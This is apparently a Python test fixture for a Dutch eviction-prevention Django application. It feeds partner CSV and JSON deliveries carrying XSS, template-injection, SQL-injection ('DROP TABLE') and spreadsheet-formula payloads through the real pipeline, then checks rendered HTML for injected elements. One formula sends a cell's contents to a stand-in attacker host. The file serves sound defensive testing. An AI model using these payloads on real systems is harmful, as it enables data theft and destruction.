"""A region whose partners deliver hostile text in every free-text field, through the real pipeline.

``build_hostile_region`` imports a CSV delivery (command-line channel, the same service as the portal)
and a JSON delivery (through the partner API), runs matching and triage as the product does, and puts
the resulting household into the eviction chain (a care-desk referral, a Signalering+ admission and a
Regieteam case form). Every accepted row carries one payload in all of its free-text fields; every
rejected row carries payloads in every field, so they show again in the quarantine.
"""

import csv
import datetime as dt
import io
import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser

from django.db import transaction
from django.test import Client
from django.utils import timezone
from stdnum.nl import bsn as bsn_numbers

from eropaf.accounts.api_tokens import create_api_token
from eropaf.accounts.models import Team, User
from eropaf.accounts.roles import Role, TeamKind
from eropaf.care_desk.models import Referral
from eropaf.care_desk.rules import ReferralReason, ReferrerKind
from eropaf.cases.models import Case
from eropaf.coordination.models import AgendaItem as RegieAgendaItem
from eropaf.coordination.models import CaseForm, Meeting
from eropaf.coordination.rules import AgendaReason, FormStatus
from eropaf.core.vocabularies import DeliveryChannel, PartnerType
from eropaf.escalation.services import track_for_case, track_for_household
from eropaf.intake.importing import DeliverySource, import_delivery
from eropaf.intake.models import Delivery
from eropaf.integrations.brp.local import LocalPersonRegistry
from eropaf.integrations.brp.protocol import Address, Person
from eropaf.matching.services import Registries, run_matching
from eropaf.organisations.models import Municipality, Partner
from eropaf.signalering_plus.models import Admission, AgendaItem, Consultation, ExtraAction
from eropaf.signalering_plus.rules import AgendaKind
from tests.factories import (
    DistrictFactory,
    MunicipalityFactory,
    PartnerFactory,
    PostcodeAreaFactory,
    TeamFactory,
    make_superuser,
    make_user_with_role,
)

TODAY = dt.datetime(2026, 11, 10, 12, 0, tzinfo=dt.UTC)
PERIOD = dt.date(2026, 11, 1)

SCRIPT = "<script>alert(1)</script>"
IMAGE = '"><img src=x onerror=alert(1)>'
JAVASCRIPT_URL = "javascript:alert(1)"
TEMPLATE = "{{7*7}}"
SQL = "'; DROP TABLE intake_signal; --"
PAYLOADS = (SCRIPT, IMAGE, JAVASCRIPT_URL, TEMPLATE, SQL)
# Formulas a spreadsheet would run if a cell started with them.
FORMULAS = ('=HYPERLINK("http://kwaadwillend.example/?x="&A1,"klik")', "+1+1", "-1+1", "@SUM(1+1)")

CSV_FILE_NAME = f"{IMAGE}.csv"
FREE_TEXT_FIELDS = ("referentie", "voornamen", "achternaam", "straat", "woonplaats", "klantnummer")
HEADER = (
    "referentie",
    "signaaltype",
    "ontstaansdatum",
    "bedrag",
    "bsn",
    "voorletters",
    "voornamen",
    "voorvoegsel",
    "achternaam",
    "geboortedatum",
    "straat",
    "huisnummer",
    "huisletter",
    "huisnummertoevoeging",
    "postcode",
    "woonplaats",
    "telefoon",
    "email",
    "klantnummer",
    "dagvaardingsdatum",
)


def valid_bsns(count: int) -> list[str]:
    found: list[str] = []
    candidate = 999_990_000
    while len(found) < count:
        candidate += 1
        if bsn_numbers.is_valid(str(candidate)):
            found.append(str(candidate))
    return found


BSNS = valid_bsns(len(PAYLOADS) + len(FORMULAS))


def _email(payload: str) -> str:
    """The payload as the local part of an address the intake accepts (no spaces)."""
    return payload.replace(" ", "/").replace("@", "") + "@voorbeeld.nl"


def accepted_row(index: int, payload: str, *, prefix: str = "") -> dict[str, str]:
    """A valid row whose every free-text field carries ``payload``; one household per index."""
    row = dict.fromkeys(FREE_TEXT_FIELDS, payload)
    row.update(
        referentie=f"{prefix}{payload}",
        ontstaansdatum="01-08-2026",
        bedrag="1.234,56",
        bsn=BSNS[index],
        geboortedatum="17-05-1990",
        huisnummer=str(index + 1),
        postcode="3311 AB",
        telefoon="06-12345678",
        email=_email(payload),
        dagvaardingsdatum="01-10-2026",
    )
    return row


def rejected_row(payload: str) -> dict[str, str]:
    """A row that cannot be accepted: the payload in every field, valid or not."""
    return dict.fromkeys(HEADER, payload)


def delivery_rows(*, prefix: str = "") -> list[dict[str, str]]:
    accepted = [accepted_row(index, payload, prefix=prefix) for index, payload in enumerate(PAYLOADS)]
    formulas = [
        accepted_row(len(PAYLOADS) + index, formula, prefix=prefix) for index, formula in enumerate(FORMULAS)
    ]
    return [*accepted, *formulas, *(rejected_row(payload) for payload in (*PAYLOADS, *FORMULAS))]


def csv_bytes(rows: list[dict[str, str]]) -> bytes:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(HEADER), delimiter=";")
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue().encode()


@dataclass
class HostileRegion:
    municipality: Municipality
    team: Team
    desk: Team
    regieteam: Team
    landlord: Partner
    energy: Partner
    csv_delivery: Delivery
    json_delivery: Delivery
    json_report: dict[str, object]
    cases: list[Case]
    users: dict[str, User] = field(default_factory=dict)

    def case_of(self, payload: str) -> Case:
        return next(case for case in self.cases if case.signals.filter(surname=payload).exists())


def _people() -> list[Person]:
    return [
        Person(
            bsn=bsn,
            surname="Bewoner",
            given_names="Jan",
            birth_date=dt.date(1990, 5, 17),
            municipality_code="0505",
            address=Address(postcode="3311AB", house_number=index + 1),
        )
        for index, bsn in enumerate(BSNS)
    ]


def _deliver_json(client: Client, partner: Partner) -> dict[str, object]:
    key = create_api_token(partner=partner, name="koppeling", created_by=None).key
    body = {"signalen": delivery_rows(prefix="E-")}
    response = client.post(
        "/api/v1/deliveries",
        json.dumps(body),
        content_type="application/json",
        headers={"Authorization": f"Bearer {key}"},
    )
    assert response.status_code == 201, response.content
    report: dict[str, object] = response.json()
    # A withdrawal's reason is free text of the partner too.
    withdrawal = {"referentie": f"E-{FORMULAS[1]}", "reden": SCRIPT}
    response = client.post(
        "/api/v1/withdrawals",
        json.dumps(withdrawal),
        content_type="application/json",
        headers={"Authorization": f"Bearer {key}"},
    )
    assert response.status_code == 200, response.content
    return report


def _chain(
    region: HostileRegion, case: Case, consultation: Consultation, meeting: Meeting, position: int
) -> None:
    """The household in each part of the eviction chain, with staff text that is hostile too."""
    today = timezone.localdate()
    signal = case.signals.filter(partner=region.landlord).get()
    with transaction.atomic():
        track = track_for_case(case)
    Referral.objects.create(
        municipality=region.municipality,
        track=track,
        case=case,
        desk_team=region.desk,
        reason=ReferralReason.CONCERN,
        referred_on=today,
        referrer_kind=ReferrerKind.NEIGHBOURHOOD_TEAM,
        concerns=SCRIPT,
        tried_before=IMAGE,
        household_situation=TEMPLATE,
        resident_informed=True,
    )
    admission = Admission.objects.create(
        municipality=region.municipality,
        address_key=case.address_key,
        team=region.team,
        corporation=region.landlord,
        case=case,
        consultation=consultation,
        admitted_on=today,
    )
    AgendaItem.objects.create(
        consultation=consultation, case=case, kind=AgendaKind.ADMITTED, admission=admission
    )
    ExtraAction.objects.create(
        admission=admission, kind="care_conference", owner_party=SCRIPT, agreed_on=today, due_on=today
    )
    with transaction.atomic():
        household = track_for_household(
            municipality=region.municipality, address_key=case.address_key, landlord=region.landlord
        )
    form = CaseForm.objects.create(
        track=household,
        municipality=region.municipality,
        partner=region.landlord,
        partner_reference=signal.reference,
        filed_on=today,
        tried_before=SCRIPT,
        why_not_enough=IMAGE,
        is_multi_problem=True,
        arrear_cents=180_000,
        expected_court_on=today,
        tenant_informed=True,
        status=FormStatus.ON_AGENDA,
    )
    RegieAgendaItem.objects.create(
        meeting=meeting, case_form=form, position=position, reason=AgendaReason.FIRST
    )


def build_hostile_region(client: Client) -> HostileRegion:
    municipality = MunicipalityFactory.create(code="0505", name="Dordrecht")
    district = DistrictFactory.create(municipality=municipality, code="C", name="Centrum")
    PostcodeAreaFactory.create(digits="3311", municipality=municipality, district=district)
    team = TeamFactory.create(
        municipality=municipality, name="Vroegsignalering", kind=TeamKind.EARLY_DETECTION
    )
    team.districts.add(district)
    desk = TeamFactory.create(
        municipality=municipality, name="Meldpunt", kind=TeamKind.CARE_AND_NUISANCE_DESK
    )
    regieteam = TeamFactory.create(
        municipality=municipality, name="Regieteam", kind=TeamKind.COORDINATION_TEAM
    )
    landlord = PartnerFactory.create(
        code="woongoed", name="Woongoed", partner_type=PartnerType.RENT, municipalities=[municipality]
    )
    energy = PartnerFactory.create(
        code="stroomlijn", name="Stroomlijn", partner_type=PartnerType.ENERGY, municipalities=[municipality]
    )
    csv_report = import_delivery(
        partner=landlord,
        source=DeliverySource.from_file(csv_bytes(delivery_rows()), CSV_FILE_NAME),
        channel=DeliveryChannel.COMMAND_LINE,
    )
    json_report = _deliver_json(client, energy)
    run_matching(
        municipality=municipality,
        period=PERIOD,
        label="test",
        registries=Registries(persons=LocalPersonRegistry(_people()), debt_services=_NoClients()),
    )
    cases = list(Case.objects.filter(municipality=municipality).order_by("address_key"))
    region = HostileRegion(
        municipality=municipality,
        team=team,
        desk=desk,
        regieteam=regieteam,
        landlord=landlord,
        energy=energy,
        csv_delivery=Delivery.objects.get(pk=csv_report.delivery_id),
        json_delivery=Delivery.objects.get(pk=int(str(json_report["delivery_id"]))),
        json_report=json_report,
        cases=cases,
    )
    today = timezone.localdate()
    consultation = Consultation.objects.create(
        municipality=municipality, team=team, corporation=landlord, held_on=today
    )
    meeting = Meeting.objects.create(team=regieteam, municipality=municipality, held_on=today)
    for position, payload in enumerate(PAYLOADS, start=1):
        _chain(region, region.case_of(payload), consultation, meeting, position)
    region.users = {
        "case_worker": make_user_with_role(Role.CASE_WORKER, team=team),
        "team_lead": make_user_with_role(Role.TEAM_LEAD, team=team),
        "landlord": make_user_with_role(Role.PARTNER_USER, partner=landlord),
        "energy": make_user_with_role(Role.PARTNER_USER, partner=energy),
        "desk": make_user_with_role(Role.ESCALATION_MEMBER, team=desk),
        "regieteam": make_user_with_role(Role.ESCALATION_MEMBER, team=regieteam),
        "policy_officer": make_user_with_role(Role.POLICY_OFFICER, municipality=municipality),
        "administrator": make_user_with_role(Role.ADMINISTRATOR, municipality=municipality),
        "superuser": make_superuser(),
    }
    return region


class _NoClients:
    """Debt services know none of the residents, so every household is contacted."""

    def known(self, queries: object) -> set[str]:
        return set()


# --------------------------------------------------------------------------------------------
# Reading HTML for what a payload could have made of it
# --------------------------------------------------------------------------------------------


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.links: list[str] = []
        self.text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "script":
            self._in_script = True
        if tag == "img" and any(name == "src" and value == "x" for name, value in attrs):
            self.problems.append(f"an <img src=x> element: {attrs}")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"an event handler attribute {name}={value!r} on <{tag}>")
            if name in {"href", "src", "action", "formaction"} and (value or "").strip().lower().startswith(
                "javascript:"
            ):
                self.problems.append(f"a javascript: URL in {name} of <{tag}>")
            if name == "href" and tag == "a" and value:
                self.links.append(value)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and "alert(1)" in data:
            self.problems.append(f"a <script> element running {data.strip()[:60]!r}")
        self.text.append(data)


@dataclass(frozen=True)
class ReadPage:
    problems: list[str]
    links: list[str]
    text: str


def read_html(body: str) -> ReadPage:
    """What the page's HTML holds: elements or attributes a payload created, links, visible text."""
    parser = _Elements()
    parser.feed(body)
    parser.close()
    problems = list(parser.problems)
    for raw in ("<script>alert(1)", "onerror=alert(1)>", "<img src=x"):
        if raw in body:
            problems.append(f"the raw text {raw!r}")
    return ReadPage(problems, parser.links, "".join(parser.text))


def payloads_in(text: str) -> Iterator[str]:
    return (payload for payload in PAYLOADS if payload in text)
